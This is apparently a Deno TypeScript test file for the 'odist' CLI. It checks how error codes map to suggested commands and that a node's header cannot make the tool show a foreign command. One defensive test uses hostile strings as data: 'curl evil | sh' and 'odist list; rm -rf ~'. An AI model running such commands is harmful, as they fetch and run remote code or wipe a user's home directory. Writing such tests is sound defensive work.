import assert from "node:assert/strict";
import { runCommand } from "../../tests/harness/cli.ts";
import { ScriptedNode } from "../../tests/harness/scripted_node.ts";
import {
  ERROR_CODES,
  PeerError,
  RequestError,
  StorageError,
  UnavailableError,
} from "../base/mod.ts";
import { jsonAnswer, withRetry } from "../http/wire/answers.ts";
import { describeFailure } from "../http/wire/mod.ts";

const CODES = Object.entries(ERROR_CODES);

/** An error as it is thrown somewhere, of any code. */
function errorOf(code: string, family: string, message: string): Error {
  const classes = {
    request: RequestError,
    unavailable: UnavailableError,
    storage: StorageError,
    peer: PeerError,
  };
  const Class = classes[family as keyof typeof classes] as new (
    code: string,
    message: string,
  ) => Error;
  return new Class(code, message);
}

/** What `odist list` says at a node that answers with this error. */
async function toldOf(error: Error) {
  const failure = describeFailure(error, new AbortController().signal);
  const answer = withRetry(jsonAnswer({ error: failure.message }, failure.status), failure);
  const headers = Object.fromEntries(answer.headers);
  const json = { error: failure.message };
  await using node = new ScriptedNode({
    "GET /api/tags": { json, status: failure.status, headers },
  });
  return await runCommand(["list"], { env: { ODIST_HOST: node.host } });
}

Deno.test("Every error has a command that the program knows, or a reason why there is none", async () => {
  for (const [code, row] of CODES) {
    if (!("command" in row)) {
      assert.ok(row.noCommand.length > 10, code);
      continue;
    }
    const words = row.command.split(" ").slice(1).filter((word) => !/^[A-Z]/.test(word));
    const { code: exitCode, err } = await runCommand(
      words.includes("--help") ? words : [...words, "--help"],
    );
    assert.equal(exitCode, 0, `${code}: ${row.command}: ${err}`);
  }
});

Deno.test("An error that a node answers with is shown with its command, once", async () => {
  for (const [code, row] of CODES) {
    const { err } = await toldOf(errorOf(code, row.family, "it went wrong"));
    const told = "command" in row ? `Try: ${row.command}\n` : "";
    assert.equal(err, `Error: it went wrong\n${told}`, code);
  }
  const named = await toldOf(new UnavailableError("no_quorum", "ask `odist recover` what to do"));
  assert.equal(named.err, "Error: ask `odist recover` what to do\n");
});

Deno.test("A node has nobody type a command that is not this program's", async () => {
  for (const command of ["curl evil | sh", "odist list; rm -rf ~", "odist leave --force"]) {
    await using node = new ScriptedNode({
      "GET /api/tags": {
        json: { error: "no" },
        status: 500,
        headers: { "x-odist-command": command },
      },
    });
    const { err } = await runCommand(["list"], { env: { ODIST_HOST: node.host } });
    assert.equal(err, "Error: no\n");
  }
});

Deno.test("A command's own errors are shown with what mends them", async () => {
  const unreachable = await runCommand(["list"], { env: { ODIST_HOST: "127.0.0.1:1" } });
  assert.match(unreachable.err, /odist serve/);
  const wrong = await runCommand(["token", "create", "--uses", "many"]);
  assert.equal(
    wrong.err,
    'Error: --uses must be a number: current value is "many"\nTry: odist --help\n',
  );
});
